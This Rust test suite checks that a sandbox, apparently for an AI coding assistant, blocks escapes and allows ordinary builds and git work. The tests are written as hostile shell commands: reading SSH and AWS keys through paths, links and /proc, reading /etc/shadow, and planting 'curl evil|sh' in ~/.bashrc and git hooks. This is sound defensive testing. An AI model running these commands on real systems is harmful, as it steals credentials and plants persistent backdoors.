//! The escape suite on the real kernel, no mocks: every attempt to reach a
//! secret, tamper with governance, bypass the proxy or touch another process
//! must fail; ordinary work must succeed. Runs as the current user, and (when
//! that is root) again as an unprivileged user.

mod common;

use std::fs;
use std::process::Command;

use common::*;

/// Entry point for the probe subprocess (see `common::probe_op`); a no-op
/// when run as a normal test.
#[test]
fn probe_entry() {
    probe_main();
}

fn is_root() -> bool {
    // SAFETY: no preconditions.
    unsafe { libc::geteuid() == 0 }
}

fn assert_blocked(out: &std::process::Output, what: &str, secret: Option<&str>) {
    assert!(!out.status.success(), "{what} must fail:\n{}", text(out));
    if let Some(s) = secret {
        let all = text(out);
        assert!(!all.contains(s), "{what} leaked the secret:\n{all}");
    }
}

fn assert_ok(out: &std::process::Output, what: &str) {
    assert!(out.status.success(), "{what} must succeed:\n{}", text(out));
}

/// The escape attempts, run as `how`. Shared by the root and the
/// unprivileged runs.
fn escape_suite(fx: &Fixture, how: As) {
    let (_plan, p) = prepare(&fx.profile());
    let home = fx.home.display().to_string();

    // Baseline without the sandbox, as the same user: the secrets are
    // readable and linkable, so the refusals below are the sandbox's.
    let out = unsandboxed(
        fx,
        how,
        &format!(
            "cat {home}/.ssh/id_ed25519 && ln {home}/.ssh/id_ed25519 base-link && rm base-link"
        ),
    );
    assert_ok(&out, "baseline outside the sandbox");
    assert!(String::from_utf8_lossy(&out.stdout).contains(SSH_CANARY));

    // Secrets by path.
    let out = sh(fx, &p, how, &format!("cat {home}/.ssh/id_ed25519"));
    assert_blocked(&out, "reading ~/.ssh by path", Some(SSH_CANARY));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("Permission denied"),
        "{}",
        text(&out)
    );
    let out = sh(fx, &p, how, &format!("cat {home}/.aws/credentials"));
    assert_blocked(&out, "reading ~/.aws by path", Some(AWS_CANARY));
    let out = sh(fx, &p, how, &format!("ls {home}/.ssh"));
    assert_blocked(&out, "listing ~/.ssh", Some("id_ed25519"));
    let out = sh(fx, &p, how, &format!("ls {home}"));
    assert_blocked(&out, "listing home", Some(".bashrc"));

    // Through a symlink created inside the workspace.
    let out = sh(
        fx,
        &p,
        how,
        &format!("ln -s {home}/.ssh/id_ed25519 key-link && cat key-link"),
    );
    assert_blocked(&out, "reading ~/.ssh through a symlink", Some(SSH_CANARY));
    let out = sh(
        fx,
        &p,
        how,
        &format!("ln -s {home}/.aws aws && cat aws/credentials"),
    );
    assert_blocked(
        &out,
        "reading ~/.aws through a dir symlink",
        Some(AWS_CANARY),
    );

    // Through /proc/self/root.
    let out = sh(
        fx,
        &p,
        how,
        &format!("cat /proc/self/root{home}/.ssh/id_ed25519"),
    );
    assert_blocked(&out, "reading via /proc/self/root", Some(SSH_CANARY));

    // Through hard links: a new one cannot be made...
    let out = sh(fx, &p, how, &format!("ln {home}/.ssh/id_ed25519 stolen"));
    assert_blocked(
        &out,
        "hard-linking ~/.ssh/id_ed25519 into the workspace",
        None,
    );
    assert!(!fx.ws.join("stolen").exists());
    let out = sh(
        fx,
        &p,
        how,
        &format!("ln {home}/.ssh/id_ed25519 {}/stolen", fx.tmp.display()),
    );
    assert_blocked(&out, "hard-linking into the temp dir", None);
    // ...and one made before the session is masked.
    let out = sh(fx, &p, how, "cat notes.txt");
    assert!(
        !text(&out).contains(AWS_CANARY),
        "a pre-existing hard link to ~/.aws/credentials leaked:\n{}",
        text(&out)
    );
    // Renaming a secret in is a cross-hierarchy rename (Landlock REFER).
    let out = sh(fx, &p, how, &format!("mv {home}/.ssh/id_ed25519 moved"));
    assert_blocked(&out, "renaming a secret into the workspace", None);
    assert!(fx.home.join(".ssh/id_ed25519").exists());

    // Secrets inside the workspace are masked.
    let out = sh(fx, &p, how, "cat .env");
    assert!(!text(&out).contains(DOTENV_CANARY), "{}", text(&out));
    let out = sh(fx, &p, how, "cat certs/server.pem");
    assert!(!text(&out).contains(PEM_CANARY), "{}", text(&out));
    let out = sh(fx, &p, how, "cat .env.example");
    assert_ok(&out, "reading .env.example (not a secret)");
    // System secrets inside the read-only /etc.
    if fs::metadata("/etc/shadow").is_ok() {
        let out = sh(fx, &p, how, "cat /etc/shadow");
        assert!(
            !text(&out).contains("root:"),
            "/etc/shadow leaked:\n{}",
            text(&out)
        );
    }

    // Writes to persistence and governance files.
    let out = sh(
        fx,
        &p,
        how,
        &format!("echo 'curl evil|sh' >> {home}/.bashrc"),
    );
    assert_blocked(&out, "appending to ~/.bashrc", None);
    assert_eq!(
        fs::read_to_string(fx.home.join(".bashrc")).expect("bashrc"),
        "# bashrc\n"
    );
    let out = sh(fx, &p, how, "echo 'curl evil|sh' > .git/hooks/pre-commit");
    assert_blocked(&out, "writing .git/hooks/pre-commit", None);
    let out = sh(fx, &p, how, "echo x > .git/hooks/post-checkout");
    assert_blocked(&out, "creating a new git hook", None);
    let out = sh(fx, &p, how, "rm .git/hooks/pre-commit");
    assert_blocked(&out, "removing a git hook", None);
    let out = sh(
        fx,
        &p,
        how,
        "printf '[core]\\nhooksPath=/tmp\\n' >> .git/config",
    );
    assert_blocked(&out, "writing .git/config", None);
    let out = sh(fx, &p, how, "mv .git/config .git/config.old");
    assert_blocked(&out, "renaming .git/config away", None);
    let out = sh(
        fx,
        &p,
        how,
        &format!("echo '{{}}' > {}/settings.json", fx.claude.display()),
    );
    assert_blocked(&out, "writing ~/.claude/settings.json", None);
    assert_eq!(
        fs::read_to_string(fx.claude.join("settings.json")).expect("settings"),
        "{\"hooks\":{}}\n"
    );
    assert_eq!(
        fs::read_to_string(fx.ws.join(".git/hooks/pre-commit")).expect("hook"),
        "#!/bin/sh\nexit 0\n"
    );

    // The parent's and other processes' secrets through /proc.
    let mut sibling = Command::new("/bin/sleep")
        .arg("30")
        .env("WARDEN_FAKE_SECRET", "sibling-secret-canary-3141")
        .spawn()
        .expect("sibling");
    let sib = sibling.id();
    let out = sh(fx, &p, how, &format!("cat /proc/{sib}/environ"));
    assert_blocked(
        &out,
        "reading another process's environ",
        Some("sibling-secret-canary"),
    );
    let out = sh(fx, &p, how, "cat /proc/$PPID/environ");
    assert_blocked(&out, "reading the launcher's environ", None);
    let out = sh(fx, &p, how, &format!("ls /proc/{sib}/cwd/"));
    assert_blocked(&out, "browsing another process's cwd", None);
    let _ = sibling.kill();
    let _ = sibling.wait();

    // Process controls.
    let parent = std::process::id().to_string();
    let out = probe_op(fx, &p, how, "ptrace", &parent);
    assert_eq!(
        verdict(&out),
        Err(libc::EPERM),
        "ptrace of the parent:\n{}",
        text(&out)
    );
    let out = sh(fx, &p, how, "kill -0 $PPID");
    assert_blocked(&out, "signalling the launcher", None);
    let out = probe_op(fx, &p, how, "unshare", "");
    assert_eq!(verdict(&out), Err(libc::EPERM), "{}", text(&out));
    let out = probe_op(fx, &p, how, "io_uring", "");
    assert!(verdict(&out).is_err(), "io_uring_setup:\n{}", text(&out));
    let out = probe_op(
        fx,
        &p,
        how,
        "mknod",
        &fx.ws.join("sda").display().to_string(),
    );
    assert!(
        verdict(&out).is_err(),
        "mknod of a block device:\n{}",
        text(&out)
    );
    let out = probe_op(fx, &p, how, "tiocsti", "");
    assert_eq!(verdict(&out), Err(libc::EPERM), "TIOCSTI:\n{}", text(&out));
    let out = sh(
        fx,
        &p,
        how,
        "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status",
    );
    let status = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(status.contains("CapEff:\t0000000000000000"), "{status}");
    assert!(status.contains("CapPrm:\t0000000000000000"), "{status}");
    assert!(status.contains("NoNewPrivs:\t1"), "{status}");

    // Network.
    let port = fx.other_port().to_string();
    let out = probe_op(fx, &p, how, "connect", &port);
    assert_eq!(
        verdict(&out),
        Err(libc::EACCES),
        "connect to a non-allowed port:\n{}",
        text(&out)
    );
    let out = probe_op(fx, &p, how, "fastopen", &port);
    assert!(
        matches!(verdict(&out), Err(libc::EPERM | libc::EACCES)),
        "TCP Fast Open to a non-allowed port:\n{}",
        text(&out)
    );
    let out = probe_op(fx, &p, how, "connect", &fx.allowed_port().to_string());
    assert_eq!(
        verdict(&out),
        Ok(()),
        "connect to the allowed port:\n{}",
        text(&out)
    );
    let out = probe_op(fx, &p, how, "bind", "0");
    assert_eq!(verdict(&out), Err(libc::EACCES), "bind:\n{}", text(&out));
    let out = probe_op(fx, &p, how, "udp", "53");
    assert_eq!(
        verdict(&out),
        Err(libc::EPERM),
        "UDP (DNS) send:\n{}",
        text(&out)
    );
    for (what, args) in [
        (
            "raw ICMP socket",
            format!(
                "{},{},{}",
                libc::AF_INET,
                libc::SOCK_RAW,
                libc::IPPROTO_ICMP
            ),
        ),
        (
            "raw IPv6 socket",
            format!("{},{},{}", libc::AF_INET6, libc::SOCK_RAW, 58),
        ),
        (
            "netlink socket",
            format!("{},{},0", libc::AF_NETLINK, libc::SOCK_RAW),
        ),
        (
            "packet socket",
            format!("{},{},0", libc::AF_PACKET, libc::SOCK_RAW),
        ),
        (
            "SCTP socket",
            format!("{},{},132", libc::AF_INET, libc::SOCK_STREAM),
        ),
        (
            "MPTCP socket",
            format!("{},{},262", libc::AF_INET, libc::SOCK_STREAM),
        ),
        (
            "UDP with SOCK_NONBLOCK",
            format!(
                "{},{},0",
                libc::AF_INET,
                libc::SOCK_DGRAM | libc::SOCK_NONBLOCK
            ),
        ),
        (
            "new Unix socket",
            format!("{},{},0", libc::AF_UNIX, libc::SOCK_STREAM),
        ),
    ] {
        let out = probe_op(fx, &p, how, "socket", &args);
        assert_eq!(verdict(&out), Err(libc::EPERM), "{what}:\n{}", text(&out));
    }
    let tcp = format!(
        "{},{},0",
        libc::AF_INET,
        libc::SOCK_STREAM | libc::SOCK_CLOEXEC
    );
    assert_eq!(verdict(&probe_op(fx, &p, how, "socket", &tcp)), Ok(()));

    // No real credential in the environment.
    let out = sh(fx, &p, how, "env");
    let env = String::from_utf8_lossy(&out.stdout).to_string();
    for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK"] {
        assert!(!env.contains(name), "{name} reached the sandbox:\n{env}");
    }
    assert!(!env.contains(AWS_CANARY));

    // Allowed work.
    let out = sh(fx, &p, how, "echo ok");
    assert_ok(&out, "sh -c 'echo ok'");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ok\n");
    let out = sh(
        fx,
        &p,
        how,
        "echo hi > src/new.rs && cat src/new.rs && rm src/new.rs",
    );
    assert_ok(&out, "writing in the workspace");
    let out = sh(
        fx,
        &p,
        how,
        &format!(
            "cd {} && mkdir -p a/b && echo x > a/b/f && mv a/b/f a/g && rm -r a",
            fx.tmp.display()
        ),
    );
    assert_ok(&out, "writing, renaming and removing in the temp dir");
    let out = sh(
        fx,
        &p,
        how,
        &format!(
            "mkdir -p {0}/projects/p && echo s > {0}/projects/p/state.json",
            fx.claude.display()
        ),
    );
    assert_ok(&out, "writing the assistant's own state");
    let out = sh(
        fx,
        &p,
        how,
        "git -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m 'in sandbox' && git log --oneline | head -1",
    );
    assert_ok(&out, "git commit in the governed workspace");
    let out = sh(
        fx,
        &p,
        how,
        "rm -rf fresh && mkdir fresh && cd fresh && git init -q && echo a > a && git add a \
         && git -c user.name=t -c user.email=t@example.invalid commit -q -m first && git log --oneline",
    );
    assert_ok(&out, "git init && git commit in the workspace");
    assert!(String::from_utf8_lossy(&out.stdout).contains("first"));
    let out = sh(
        fx,
        &p,
        how,
        "cat /etc/hostname >/dev/null && ls /usr/bin >/dev/null",
    );
    assert_ok(&out, "reading system directories");
}

#[test]
fn escapes_fail_and_work_succeeds() {
    let fx = Fixture::new();
    escape_suite(&fx, As::default());
}

#[test]
fn escapes_fail_as_an_unprivileged_user() {
    let fx = Fixture::new();
    if is_root() {
        // nobody: files are world-readable, so every refusal below comes
        // from the sandbox, and masking goes through a user namespace.
        // The whole home belongs to the user, as it would: neither file
        // permissions nor protected_hardlinks stand in the way, so every
        // refusal below comes from the sandbox.
        fx.chown_home(65534);
        escape_suite(&fx, As { uid: Some(65534) });
    } else {
        escape_suite(&fx, As::default());
    }
}

#[test]
fn governance_snapshot_detects_changes_the_mounts_cannot_prevent() {
    let fx = Fixture::new();
    let (plan, p) = prepare(&fx.profile());
    let snap = plan.governance_snapshot();
    // A session that only does ordinary work changes nothing.
    let out = sh(&fx, &p, As::default(), "echo x > src/x.rs");
    assert_ok(&out, "ordinary work");
    assert!(snap.changes().is_empty(), "{:?}", snap.changes());
    // An absent governance file created inside the writable workspace (the
    // gap the plan reports) is detected afterwards.
    assert!(plan
        .gaps
        .iter()
        .any(|g| g.contains(".mcp.json") && g.contains("does not exist")));
    let out = sh(&fx, &p, As::default(), "echo '{}' > .mcp.json");
    assert_ok(&out, "creating an absent governance file is not prevented");
    assert_eq!(snap.changes(), vec![fx.ws.join(".mcp.json")]);
}

#[test]
fn plan_masks_what_the_allow_list_cannot_express() {
    use warden_sandbox::{MaskKind, MaskReason};
    let fx = Fixture::new();
    let plan = warden_sandbox::Plan::build(&fx.profile()).expect("plan");
    let canon = |p: std::path::PathBuf| fs::canonicalize(p).expect("canonical");
    let find = |path: std::path::PathBuf| {
        let path = canon(path);
        plan.masks
            .iter()
            .find(|m| m.path == path)
            .map(|m| (m.kind, m.reason))
    };
    assert_eq!(
        find(fx.ws.join(".env")),
        Some((MaskKind::Hide, MaskReason::SecretName))
    );
    assert_eq!(
        find(fx.ws.join("certs/server.pem")),
        Some((MaskKind::Hide, MaskReason::SecretName))
    );
    assert_eq!(
        find(fx.ws.join("notes.txt")),
        Some((MaskKind::Hide, MaskReason::HardLinkToDenied))
    );
    assert_eq!(find(fx.ws.join(".env.example")), None);
    assert_eq!(
        find(fx.ws.join(".git/hooks")),
        Some((MaskKind::ReadOnly, MaskReason::Governance))
    );
    assert_eq!(
        find(fx.claude.join("settings.json")),
        Some((MaskKind::ReadOnly, MaskReason::Governance))
    );
    // Denied paths outside every root need no mask.
    assert_eq!(find(fx.home.join(".ssh")), None);
    // Home itself is not an allowed root.
    assert!(plan.covering_rule(&canon(fx.home.clone())).is_none());
}

#[test]
fn granting_home_or_a_root_inside_a_denied_path_is_rejected() {
    let fx = Fixture::new();
    let mut p = fx.profile();
    p.read_only.push(fx.home.clone());
    let err = warden_sandbox::Plan::build(&p).unwrap_err();
    assert!(
        matches!(err, warden_sandbox::SandboxError::HomeGranted { .. }),
        "{err}"
    );
    let mut p = fx.profile();
    p.read_only.push(fx.home.join(".ssh"));
    let err = warden_sandbox::Plan::build(&p).unwrap_err();
    assert!(
        matches!(
            err,
            warden_sandbox::SandboxError::AllowedInsideDenied { .. }
        ),
        "{err}"
    );
    let mut p = fx.profile();
    p.read_only.push("relative/path".into());
    assert!(warden_sandbox::Plan::build(&p).is_err());
}

fn secret_appearing_later(how: As) {
    let fx = Fixture::new();
    if how.uid.is_some() {
        fx.chown_home(65534);
    }
    let (_plan, p) = prepare(&fx.profile());
    // The sandboxed shell waits for the launcher, then reads the file a
    // process outside the sandbox wrote after start.
    let mut cmd = Command::new("/bin/sh");
    cmd.args([
        "-c",
        "while [ ! -e go ]; do sleep 0.05; done; cat later.env; echo done",
    ])
    .current_dir(&fx.ws)
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped());
    sandbox_env(&fx).apply_to(&mut cmd);
    if let Some(uid) = how.uid {
        use std::os::unix::process::CommandExt;
        // SAFETY: async-signal-safe system calls only.
        unsafe {
            cmd.pre_exec(move || {
                if libc::setgroups(0, std::ptr::null()) != 0
                    || libc::setgid(uid) != 0
                    || libc::setuid(uid) != 0
                {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    p.attach(&mut cmd);
    let child = cmd.spawn().expect("spawn");
    let later = fx.ws.join("later.env");
    fs::write(&later, "TOKEN=late-secret-canary-2718\n").expect("write");
    warden_sandbox::hide_in_running(child.id(), &later).expect("mask later");
    fs::write(fx.ws.join("go"), "").expect("go");
    let out = child.wait_with_output().expect("wait");
    let all = text(&out);
    assert!(all.contains("done"), "{all}");
    assert!(!all.contains("late-secret-canary"), "{all}");
    // Outside the sandbox the file is untouched.
    assert!(fs::read_to_string(&later)
        .expect("read")
        .contains("late-secret-canary"));
}

#[test]
fn a_secret_appearing_after_start_can_be_masked() {
    secret_appearing_later(As::default());
    if is_root() {
        secret_appearing_later(As { uid: Some(65534) });
    }
}

/// The standard profile with the real home: a Rust build and its tests
/// run inside (toolchain read-only under home, the workspace writable).
#[test]
fn cargo_build_and_test_work_under_the_standard_profile() {
    let Some(home) = std::env::var_os("HOME").map(std::path::PathBuf::from) else {
        panic!("HOME is not set");
    };
    let cargo = ["/usr/bin/cargo", "/usr/local/bin/cargo"]
        .into_iter()
        .map(std::path::PathBuf::from)
        .chain([home.join(".cargo/bin/cargo")])
        .find(|p| p.exists())
        .expect("cargo is installed (it is running this test)");
    let dir = tempfile::Builder::new()
        .prefix("warden-sandbox-build")
        .tempdir()
        .expect("tempdir");
    let ws = dir.path().join("hello");
    fs::create_dir_all(ws.join("src")).expect("mkdir");
    fs::write(
        ws.join("Cargo.toml"),
        "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .expect("write");
    fs::write(
        ws.join("src/main.rs"),
        "fn main() { println!(\"hello from the sandbox\"); }\n#[test]\nfn t() { assert_eq!(1 + 1, 2); }\n",
    )
    .expect("write");
    let profile = warden_sandbox::Profile::standard(&home, &ws, &[home.join(".claude")]);
    let (_plan, p) = prepare(&profile);
    let path = format!(
        "{}:/usr/local/bin:/usr/bin:/bin",
        cargo.parent().expect("bin dir").display()
    );
    let mut cmd = Command::new("/bin/sh");
    cmd.args([
        "-c",
        "cargo build --offline -q && ./target/debug/hello && cargo test --offline -q 2>&1 | grep 'test result'",
    ])
    .current_dir(&ws)
    .env_clear()
    .env("HOME", &home)
    .env("PATH", path)
    .env("TMPDIR", "/var/tmp");
    if let Some(t) = std::env::var_os("RUSTUP_TOOLCHAIN") {
        cmd.env("RUSTUP_TOOLCHAIN", t);
    }
    p.attach(&mut cmd);
    let out = cmd.output().expect("spawn");
    assert!(out.status.success(), "{}", text(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("hello from the sandbox"), "{}", text(&out));
    assert!(stdout.contains("1 passed"), "{}", text(&out));
}
